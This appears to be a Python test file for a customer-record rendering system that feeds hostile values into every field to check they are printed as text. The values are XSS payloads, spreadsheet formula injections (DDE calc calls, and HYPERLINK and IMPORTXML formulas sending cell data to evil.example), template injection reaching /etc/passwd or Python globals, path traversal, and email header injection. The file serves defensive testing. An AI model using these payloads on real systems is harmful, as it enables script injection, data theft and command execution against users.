"""Markup, scripts, templates and formulas as a customer's own values: they are texts, and are printed as texts."""

from __future__ import annotations

from tests.hostile.case import Case, customer

_EVERYWHERE = {
    "harmless": "Seven sturdy crates",  # what all other pages are held against
    "script": "<script>alert(1)</script>",
    "script-in-capitals": "<ScRiPt SrC=//evil.example/x.js></ScRiPt>",
    "image-error": "<img src=x onerror=alert(1)>",
    "svg-load": '"><svg onload=alert(1)>',
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "details-toggle": "<details open ontoggle=alert(1)>",
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object-data": "<object data=data:text/html,<script>alert(1)</script>>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "base-href": "<base href=https://evil.example/>",
    "link-stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "style-import": "<style>@import url(https://evil.example/x.css)</style>",
    "style-attribute": "' style='position:fixed;inset:0' x='",
    "event-in-double-quotes": '" onmouseover="alert(1)" x="',
    "event-in-single-quotes": "' onfocus='alert(1)' autofocus x='",
    "event-without-quotes": "x onload=alert(1) y",
    "backtick-attribute": "` onload=alert(1) `",
    "end-of-title": "</title><script>alert(1)</script>",
    "end-of-style": "</style><script>alert(1)</script>",
    "end-of-block": "</p></div></section></main><h1>Invoice overdue</h1>",
    "end-of-svg-text": "</text></svg><img src=x onerror=alert(1)>",
    "end-of-bdi": "</bdi></bdi><b onclick=alert(1)>x</b>",
    "comment-opened": "<!-- <img src=x onerror=alert(1)>",
    "comment-closed": "--><script>alert(1)</script>",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "processing": "<?xml version='1.0'?><?php phpinfo() ?>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entity-numbers": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "entity-hex": "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "entity-unfinished": "&ltscript&gtalert(1)",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript-escape": "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert())//</stYle/</titLe/--!>\\x3csVg/oNloAd=alert()",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation-math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template-element": "<template><script>alert(1)</script></template>",
    "custom-element": "<x-y is=z onclick=alert(1)>",
    "form": "<form action=https://evil.example/><button>Confirm</button></form>",
    "javascript-address": "javascript:alert(document.domain)",
    "data-address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "link-in-markdown": "[click](javascript:alert(1))",
    "picture-in-markdown": "![x](https://evil.example/pixel.png)",
    "autolink": "<https://evil.example/>",
    "jinja-statement": "{% include '/etc/passwd' %}",
    "jinja-comment": "{# greet #}",
    "percent-format": "%(greet)s %s %d %n %",
    "brace-format": "{0.__class__.__init__.__globals__}",
    "dollar-template": "${7*7} #{7*7} <%= 7*7 %>",
    "angular": "[[constructor.constructor('alert(1)')()]]",
    "wide-brackets": "＜script＞alert(1)＜/script＞",
    "odd-brackets": "‹img src=x onerror=alert(1)›",
    "slash-instead-of-blank": "<svg/onload=alert(1)>",
    "unclosed-tag": "<img src=x onerror=alert(1) //",
    "tag-across": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>",
    "use-of-svg": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "foreign-object": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "video-source": "<video><source onerror=alert(1)></video>",
    "import-map": '<script type="importmap">{"imports":{"x":"https://evil.example/"}}</script>',
}


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _as_everything(name: str, text: str) -> Case:
    value = _quoted(text)
    return customer(
        f"value-{name}",
        shows=text,
        person=value,
        greet=value,
        company=value,
        looking_for=value,
        left_to_pay=value,
        why=f"\n  - reason: island-delivery\n    quote: {value}",
        together=f"\n  - {{number: {value}, what: {value}}}",
        moments=f"\n  - {{when: {value}, title: {value}, text: {value}}}",
        lifeline=f"\n  - what: {value}",
        still_possible_until=f"\n  - what: {value}\n    until: 2026-12-30",
        tell_me_once="2026-11-01",
    )


_SHEET = {
    "equals": "=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "plus": "+49+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "wide-equals": "＝1+1",
    "blank-first": " =1+1",
    "quote-first": '"=1+1"',
    "semicolon": "x;=1+1;y",
    "importxml": '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "minus-sign": "−1+1",
    "percent-first": "%0A=1+1",
}


def _as_cells(name: str, text: str) -> Case:
    return customer(f"cell-{name}", shows=text.strip(), person=_quoted(text), greet=_quoted(text))


CASES = (
    *(_as_everything(name, text) for name, text in _EVERYWHERE.items()),
    *(_as_cells(name, text) for name, text in _SHEET.items()),
    # What is not a text is not one.
    customer("value-script-in-email", email="⟦GB207⟧'<script>alert(1)</script>@x.example'"),
    customer("value-header-in-email", email='⟦GB207⟧"ada@x.example\\nBcc: all@x.example"'),
    customer("value-parameters-in-email", email="⟦GB207⟧ada@x.example?bcc=all@x.example"),
    customer("value-two-emails", email="⟦GB207⟧'ada@x.example,eve@x.example'"),
    customer("value-name-with-email", email="⟦GB207⟧Ada <ada@x.example>"),
    customer("value-quoted-email", email="⟦GB207⟧'\"<script>\"@x.example'"),
    customer("value-script-in-language", language="⟦GB205⟧'\"><script>alert(1)</script>'"),
    customer("value-path-in-language", language="⟦GB205⟧../../etc"),
    customer("value-script-as-reason", why="\n  - reason: ⟦GB102⟧<script>alert(1)</script>"),
    customer("value-path-as-reason", why="\n  - reason: ⟦GB102⟧../customers/brandt"),
    customer("value-path-as-playbook", playbook="⟦GB102⟧../playbooks/island-shippers"),
    customer("value-path-as-helper", helpers="[⟦GB102⟧'../../../etc/passwd']"),
    customer("value-script-as-tick", done="[⟦GB205⟧'<b>']"),
    customer("value-script-as-alternative", going_to="⟦GB102⟧'javascript:alert(1)'"),
    customer("value-script-as-yes", call="⟦GB204⟧'yes<script>'"),
    customer("value-script-as-version", link_version="⟦GB205⟧'1<script>'"),
    customer("value-script-as-day", last_day="⟦GB201⟧'2026-12-31<script>'"),
    customer("value-braces-in-name", person="'⟦GB113⟧{{ 7 * 7 }}'"),
    customer("value-placeholder-in-name", greet="'⟦GB113⟧{{ greet }}'"),
    # Of a name something can be seen, and a line break in it would be the end of a mail's header.
    customer("value-braille-blanks-as-name", greet="⟦GB205⟧\u2800\u2800"),
    customer("value-tags-as-name", greet="⟦GB205⟧\U000e0041\U000e0042"),
    customer("value-musical-sign-as-name", person="⟦GB205⟧\U0001d173"),
    customer("value-annotation-as-name", person="⟦GB205⟧\ufff9\ufffb"),
    customer("value-line-break-in-name", person='⟦GB205⟧"Ada\\nBcc: all@x.example"'),
    customer("value-lines-as-name", greet="⟦GB205⟧|\n  Ada\n  Bcc: all@x.example"),
    customer("value-braces-in-quote", why='\n  - {reason: island-delivery, quote: "⟦GB113⟧{{ config }}"}'),
)
